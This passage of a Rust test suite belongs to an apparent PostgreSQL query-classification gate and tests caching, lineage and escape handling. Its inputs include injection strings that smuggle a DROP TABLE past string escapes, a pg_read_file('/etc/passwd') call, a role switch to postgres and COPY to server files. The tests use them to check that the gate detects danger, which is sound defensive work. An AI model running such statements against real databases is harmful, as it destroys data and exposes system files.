        "EXECUTE",
        "1",
        "||",
        "::",
        "COPY",
        "TO",
        "PROGRAM",
        "INTO",
        "VALUES",
        "\\",
        "EXPLAIN",
        "ANALYZE",
        "PREPARE",
        "p",
        "CREATE",
        "FUNCTION",
        "RETURNS",
        "LANGUAGE",
        "plpgsql",
        "é",
        "\u{0}",
        "*",
        "=",
        "RECURSIVE",
        "UNION",
    ];
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..3000 {
        let len = next() % 24;
        let sql: Vec<&str> = (0..len)
            .map(|_| TOKENS[(next() % TOKENS.len() as u64) as usize])
            .collect();
        let sql = sql.join(if next() % 2 == 0 { " " } else { "" });
        let _ = classify(&sql);
        let _ = cache_key(&sql);
    }
}

#[test]
fn cache_shares_statements_that_differ_in_constants() {
    let cache = ClassifyCache::new(64);
    let a = cache
        .classify("SELECT * FROM t WHERE id = 1")
        .expect("parses");
    let b = cache
        .classify("SELECT * FROM t WHERE id = 42")
        .expect("parses");
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(a[0].tables, ["t"]);
    assert_eq!(
        cache_key("SELECT * FROM t WHERE id = 1"),
        cache_key("SELECT * FROM t WHERE id = 42")
    );
    // A different table is a different entry.
    let c = cache
        .classify("SELECT * FROM u WHERE id = 1")
        .expect("parses");
    assert!(!Arc::ptr_eq(&a, &c));
    // Two classifications, each under its exact text, its normalized key and its fast key
    // (the second text was a fast-key hit, so it has no exact entry).
    assert_eq!(cache.len(), 6);
}

#[test]
fn cache_never_merges_literal_dependent_statements() {
    let cache = ClassifyCache::new(64);
    let harmless = cache
        .classify("DO $$ BEGIN PERFORM 1; END $$")
        .expect("parses");
    assert_eq!(harmless[0].kinds, ["do", "select"]);
    let drop = cache
        .classify("DO $$ BEGIN DROP TABLE x; END $$")
        .expect("parses");
    assert_eq!(drop[0].kinds, ["drop", "do"]);
    // Same exact text: served from the cache.
    let again = cache
        .classify("DO $$ BEGIN DROP TABLE x; END $$")
        .expect("parses");
    assert!(Arc::ptr_eq(&drop, &again));
    // Backslashes: a harmless string first must not vouch for the escape trick.
    assert!(plain_select(
        &cache.classify("SELECT 'a'").expect("parses")[0]
    ));
    assert_eq!(
        cache.classify("SELECT 'x\\'' ; DROP TABLE t; --'"),
        Err(ClassifyError::AmbiguousEscapes)
    );
    // Errors are not cached; long texts are classified but not stored.
    assert!(cache.classify("DROP").is_err());
    let long = format!(
        "SELECT 1 FROM t WHERE a IN ({}1)",
        "1, ".repeat(MAX_CACHED_SQL_LEN)
    );
    let before = cache.len();
    assert_eq!(cache.classify(&long).expect("parses")[0].tables, ["t"]);
    assert_eq!(cache.len(), before);
}

#[test]
fn cache_is_bounded() {
    let cache = ClassifyCache::new(8);
    for i in 0..100 {
        cache
            .classify(&format!("SELECT * FROM t{i}"))
            .expect("parses");
        assert!(cache.len() <= 16, "two maps of at most 8");
    }
    // Recently used entries survive rotation.
    let hot = cache.classify("SELECT * FROM hot").expect("parses");
    for i in 0..3 {
        cache
            .classify(&format!("SELECT * FROM u{i}"))
            .expect("parses");
        let again = cache.classify("SELECT * FROM hot").expect("parses");
        assert!(Arc::ptr_eq(&hot, &again));
    }
    // Big statements are bounded by bytes, not just entries.
    let big = ClassifyCache::new(8);
    for i in 0..20 {
        let sql = format!("SELECT {}1 FROM t{i}", "1, ".repeat(3000));
        big.classify(&sql).expect("parses");
        assert!(big.len() <= 8, "{}", big.len());
    }
    fn send_sync<T: Send + Sync>() {}
    send_sync::<ClassifyCache>();
}

/// Hot-path cost, printed: `cargo test --release -p tollgate --lib classify::tests::bench --
/// --ignored --nocapture`.
#[test]
#[ignore = "timing report, not a check"]
fn bench_cache_and_parse() {
    let cache = ClassifyCache::new(4096);
    let n = 20_000u32;
    let texts: Vec<String> = (0..n)
        .map(|i| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {i}"))
        .collect();
    let time = |name: &str, f: &dyn Fn(&str)| {
        let start = std::time::Instant::now();
        for text in &texts {
            f(text);
        }
        println!("{name}: {:?}/op", start.elapsed() / n);
    };
    time("pg_query::parse", &|s| drop(pg_query::parse(s, 0)));
    time("classify", &|s| drop(classify(s)));
    time("cache_key", &|s| drop(cache_key(s)));
    time("cache, normalized hit", &|s| drop(cache.classify(s)));
    time("cache, exact hit", &|_| drop(cache.classify("BEGIN")));
}

#[test]
fn fast_key_covers_plain_texts_and_refuses_anything_lexically_subtle() {
    let k = |s: &str| fast_key(s);
    assert_eq!(
        k("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;"),
        k("SELECT abalance FROM pgbench_accounts WHERE aid = 7;")
    );
    assert_eq!(
        k("SELECT * FROM t1 WHERE a = 'x'"),
        k("SELECT * FROM t1 WHERE a = 'it''s'")
    );
    // Digits inside identifiers and keywords are kept.
    assert_ne!(k("SELECT * FROM t1"), k("SELECT * FROM t2"));
    assert_ne!(k("SELECT 1"), k("SELECT 1; DROP TABLE t"));
    for subtle in [
        "SELECT E'a\\'b'",
        "SELECT 'a\\'; DROP TABLE t; --'",
        "SELECT $$x$$",
        "SELECT $1",
        "SELECT \"delete\" FROM t",
        "SELECT U&'\\0041'",
        "SELECT 1 -- DROP",
        "SELECT /* x */ 1",
        "SELECT x'1F'",
        "SELECT b'101'",
        "SELECT N'x'",
        "SELECT date'2020-01-01'",
        "SELECT 'unterminated",
        "SELECT 'caf\u{e9}'",
        "SELECT 1\u{0}",
    ] {
        assert_eq!(k(subtle), None, "{subtle:?} must go through the parser");
    }
}

#[test]
fn a_reused_key_buffer_gives_what_a_fresh_one_gives() {
    // A session's buffer holds the previous text's key (or garbage) when the next one comes.
    let mut key = String::from("SELECT * FROM secrets WHERE leftover = 1");
    for sql in [
        "SELECT abalance FROM pgbench_accounts WHERE aid = 12345;",
        "SELECT $$x$$",
        "SELECT 1",
        "SELECT * FROM t1 WHERE a = 'it''s'",
        "SELECT 'unterminated",
        "",
    ] {
        let had = fast_key_into(sql, &mut key);
        assert_eq!(had.then(|| key.clone()), fast_key(sql), "{sql:?}");
    }
    let cache = ClassifyCache::new(16);
    let mut key = String::from("leftover");
    for sql in [
        "SELECT 1",
        "SELECT 2",
        "DELETE FROM t WHERE a = 'x'",
        "SELECT 1",
    ] {
        let with = cache
            .classify_with(sql, Escapes::Unknown, &mut key)
            .expect(sql);
        let kinds = |v: &[Statement]| v.iter().map(|s| s.kind).collect::<Vec<_>>();
        assert_eq!(kinds(&with), kinds(&classify(sql).expect(sql)), "{sql:?}");
    }
}

#[test]
fn texts_sharing_a_fast_key_classify_alike() {
    // The fast key's promise: only string and number contents differ, so the classification
    // (unless it read a constant) is the same. Checked over every text the tests know.
    let texts = [
        "SELECT * FROM orders WHERE id = 1",
        "DELETE FROM orders WHERE id = 1",
        "UPDATE t SET a = 'x' WHERE id = 10",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT set_config('role', 'postgres', false)",
        "SET client_encoding = 'UTF8'",
        "SET statement_timeout = 5",
        "DO 'BEGIN DELETE FROM t; END'",
        "EXPLAIN (ANALYZE 1) DELETE FROM t",
        "COPY t TO '/tmp/x'",
        "SELECT nextval('s')",
        "SELECT 1; SELECT 'DROP TABLE x'",
        "INSERT INTO t VALUES (1, 'a'), (2, 'b')",
    ];
    let shape = |v: &[Statement]| -> Vec<_> {
        v.iter()
            .map(|s| {
                (
                    s.kinds.clone(),
                    s.tables.clone(),
                    s.functions.clone(),
                    s.dangerous.clone(),
                    s.read_only,
                )
            })
            .collect()
    };
    for t in texts {
        let other = fast_key_sibling(t).expect(t);
        assert_eq!(fast_key(t), fast_key(&other), "{t} vs {other}");
        let a = classify(t).expect(t);
        if a.iter().any(|s| s.literal_dependent) {
            continue;
        }
        let b = classify(&other).expect(&other);
        assert_eq!(shape(&a), shape(&b), "{t} vs {other}");
    }
    // COPY reads its filename constant: `TO ''` looks like STDOUT to the parser, `TO 'f'` is
    // a server file; the cache must never answer one with the other.
    let cache = ClassifyCache::new(64);
    let empty = cache.classify("COPY s TO ''").expect("copy to ''");
    assert!(empty[0].literal_dependent);
    let file = cache.classify("COPY s TO '/tmp/x'").expect("copy to file");
    assert_eq!(file[0].dangerous, vec!["copy:file".to_string()]);
    // And through the cache: a literal-dependent statement is never served by the fast key.
    let cache = ClassifyCache::new(64);
    let utf8 = cache
        .classify("SET client_encoding = 'UTF8'")
        .expect("utf8");
    assert!(utf8[0].dangerous.is_empty());
    let sjis = cache
        .classify("SET client_encoding = 'SJIS'")
        .expect("sjis");
    assert_eq!(sjis[0].dangerous, vec!["set:client_encoding".to_string()]);
}

fn lineage(sql: &str) -> Lineage {
    one(sql).lineage
}

fn names(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn lineage_keeps_bare_top_level_columns_apart_from_derived_ones() {
    let l = lineage("select id, c.email, upper(name), email::varchar from customers c");
    assert_eq!(l.bare_refs, names(&["email", "id"]));
    assert_eq!(l.refs, names(&["email", "name"]));
    assert!(!l.opaque);
    // `SELECT *` at the top expands to columns the server names.
    let l = lineage("select * from customers");
    assert!(!l.opaque && l.refs.is_empty() && l.bare_refs.is_empty());
}

#[test]
fn lineage_ignores_filters_but_not_subqueries_ctes_unions_or_from_functions() {
    let l = lineage(
        "select name from customers where email like 'a%' and id in (select id from t where secret = 1) order by email limit 3",
    );
    assert!(l.refs.is_empty() && !l.opaque);
    assert_eq!(l.bare_refs, names(&["name"]));
    for sql in [
        "select (select email from customers limit 1)",
        "with t as (select email from customers) select 1 from t",
        "select name from customers union select email from customers",
        "select x from customers, lateral unnest(array[email]) x",
        "values ((select email from customers limit 1))",
        "select string_agg(email, ',') from customers",
    ] {
        assert!(lineage(sql).refs.contains(&"email".to_string()), "{sql}");
    }
}

#[test]
fn lineage_marks_whole_row_star_and_renames_as_opaque() {
    for sql in [
        "select row_to_json(c.*) from customers c",
        "select (c.*)::text from customers c",
        "select x from (select * from customers) s",
        "select e from customers as c(a, b, e)",
        "with t(a) as (select email from customers) select a from t",
    ] {
        assert!(lineage(sql).opaque, "{sql}");
    }
    // A single-name reference may be a whole row: it is a (non-bare) ref the caller checks.
    assert_eq!(
        lineage("select to_json(c) from customers c").refs,
        names(&["c"])
    );
}

#[test]
fn lineage_separates_returning_from_written_values() {
    let l = lineage("update customers set name = email returning id, upper(secret)");
    assert_eq!(l.refs, names(&["email"]));
    assert_eq!(l.returning_refs, names(&["id", "secret"]));
    let l = lineage("delete from customers where email = 'x' returning *");
    assert!(l.refs.is_empty() && l.returning_opaque && !l.opaque);
    let l = lineage("insert into archive select * from customers");
    assert!(l.opaque);
}

#[test]
fn select_into_writes_its_targets() {
    let l = lineage("select id, email into t2 from customers");
    assert_eq!(l.refs, names(&["email", "id"]));
    assert!(l.bare_refs.is_empty() && !l.opaque);
    assert!(lineage("select * into t2 from customers").opaque);
    assert!(lineage("select c.* into t2 from customers c").opaque);
    assert_eq!(one("select email into t2 from customers").kind, "create");
    // Without INTO the same targets are read, not written.
    assert_eq!(
        lineage("select id, email from customers").bare_refs,
        names(&["email", "id"])
    );
}

#[test]
fn a_known_escape_setting_reads_the_text_once_as_the_server_will() {
    // Under standard_conforming_strings off this is a string and a DROP; on, one string.
    let sql = "SELECT 'x\\'' ; DROP TABLE t; --'";
    let off = classify_as(sql, Escapes::Backslash).expect("off");
    assert_eq!(off.len(), 2);
    assert_eq!(off[1].kind, "drop");
    let on = classify_as(sql, Escapes::Standard).expect("on");
    assert_eq!(on.len(), 1);
    assert_eq!(on[0].kind, "select");
    // Valid only with backslash escapes (pg_regress runs such statements with it off).
    let valid_off = "SELECT 'a\\'b'";
    assert_eq!(
        classify_as(valid_off, Escapes::Backslash).expect("off")[0].kind,
        "select"
    );
    assert!(classify_as(valid_off, Escapes::Standard).is_err());
    assert_eq!(classify(valid_off), Err(ClassifyError::AmbiguousEscapes));
    // The cache never hands a one-way reading to a lookup that does not know the setting.
    let cache = ClassifyCache::new(16);
    assert_eq!(
        cache.classify_as(sql, Escapes::Standard).expect("on").len(),
        1
    );
    assert_eq!(
        cache.classify(sql).err(),
        Some(ClassifyError::AmbiguousEscapes)
    );
    assert_eq!(Escapes::from_setting("off"), Escapes::Backslash);
    assert_eq!(Escapes::from_setting("on"), Escapes::Standard);
}

#[test]
fn syntax_errors_carry_the_parsers_position() {
    assert!(
        matches!(classify("selec 1"), Err(ClassifyError::Syntax(m)) if m == "syntax error at or near \"selec\"")
    );
    assert_eq!(syntax_error_position("selec 1", Escapes::Standard), Some(1));
    assert_eq!(
        syntax_error_position("SELECT 1;\nSELECT * FRM t", Escapes::Standard),
        Some(20)
    );
    // Characters, not bytes, as the server counts them.
    assert_eq!(
        syntax_error_position("SELECT 'é', FROM t", Escapes::Standard),
        Some(13)
    );
    assert_eq!(syntax_error_position("SELECT 1", Escapes::Standard), None);
}

#[test]
fn operators_and_cast_types_are_collected() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        ("SELECT 1 !!! 2", &["!!!"], &[]),
        ("SELECT 1 OPERATOR(public.!!!) 2", &["public.!!!"], &[]),
        ("SELECT !!! 2", &["!!!"], &[]),
        ("SELECT 1 + 2, 'a' || 'b'", &["+", "||"], &[]),
        ("SELECT 1 = ANY(ARRAY[1, 2])", &["="], &[]),
        ("SELECT 1 <> ALL(ARRAY[1, 2])", &["<>"], &[]),
        ("SELECT 1 IN (1, 2)", &["="], &[]),
        ("SELECT 1 NOT IN (1, 2)", &["<>"], &[]),
        ("SELECT 1 IS DISTINCT FROM 2", &["="], &[]),
        ("SELECT 1 IS NOT DISTINCT FROM 2", &["="], &[]),
        ("SELECT NULLIF(1, 2)", &["="], &[]),
        ("SELECT 'a' LIKE 'b', 'a' ILIKE 'b'", &["~~", "~~*"], &[]),
        ("SELECT 2 BETWEEN 1 AND 3", &["<", "<=", ">", ">="], &[]),
        ("SELECT CASE 1 WHEN 2 THEN 3 END", &["="], &[]),
        ("SELECT CASE WHEN true THEN 3 END", &[], &[]),
        ("SELECT x FROM t ORDER BY x USING ~<~", &["~<~"], &[]),
        (
            "SELECT x FROM t WHERE x > ANY (SELECT y FROM u)",
            &[">"],
            &[],
        ),
        ("SELECT x FROM t WHERE x IN (SELECT y FROM u)", &["="], &[]),
        ("SELECT * FROM t JOIN u USING (id)", &["="], &[]),
        ("SELECT * FROM t NATURAL JOIN u", &["="], &[]),
        (
            "SELECT * FROM t JOIN u ON t.id OPERATOR(app.===) u.id",
            &["app.==="],
            &[],
        ),
        ("SELECT 1::evil_t", &[], &["evil_t"]),
        ("SELECT CAST(1 AS Public.Evil_T)", &[], &["public.evil_t"]),
        ("SELECT evil_t '1'", &[], &["evil_t"]),
        ("SELECT '{1}'::evil_t[]", &[], &["evil_t"]),
        (
            "SELECT 1::int, 'x'::text",
            &[],
            &["pg_catalog.int4", "text"],
        ),
        // Operators and casts in subqueries, CTEs and DML count too.
        (
            "WITH c AS (SELECT 1 !!! 2 AS v) SELECT v::evil_t FROM c",
            &["!!!"],
            &["evil_t"],
        ),
        (
            "UPDATE t SET x = x !!! 1 WHERE y = 2::evil_t",
            &["!!!", "="],
            &["evil_t"],
        ),
        // Column types of new rows count; other type names in DDL and operator names in DDL
        // are not uses.
        (
            "CREATE TABLE z (a evil_t, b int)",
            &[],
            &["evil_t", "pg_catalog.int4"],
        ),
        ("ALTER TABLE z ADD COLUMN c evil_d", &[], &["evil_d"]),
        ("CREATE TABLE z (id serial, n bigserial)", &[], &[]),
        (
            "CREATE FUNCTION f(a evil_t) RETURNS int LANGUAGE sql AS 'SELECT 1'",
            &[],
            &[],
        ),
        ("DROP OPERATOR !!! (int, int)", &[], &[]),
    ];
    for (sql, operators, casts) in cases {
        let s = one(sql);
        assert_eq!(s.operators, *operators, "{sql}");
        assert_eq!(s.casts, *casts, "{sql}");
    }
    for sql in [
        "CREATE OPERATOR !!! (FUNCTION = evil, LEFTARG = int, RIGHTARG = int)",
        "CREATE CAST (int AS evil_t) WITH FUNCTION evil(int)",
        "CREATE DOMAIN d AS int CHECK (VALUE > 0)",
        "ALTER TYPE evil_t RENAME TO e",
        "CREATE TYPE evil_t",
    ] {
        assert!(one(sql).redefines, "{sql}");
    }
    assert!(!one("CREATE TABLE z (a int)").redefines);
}
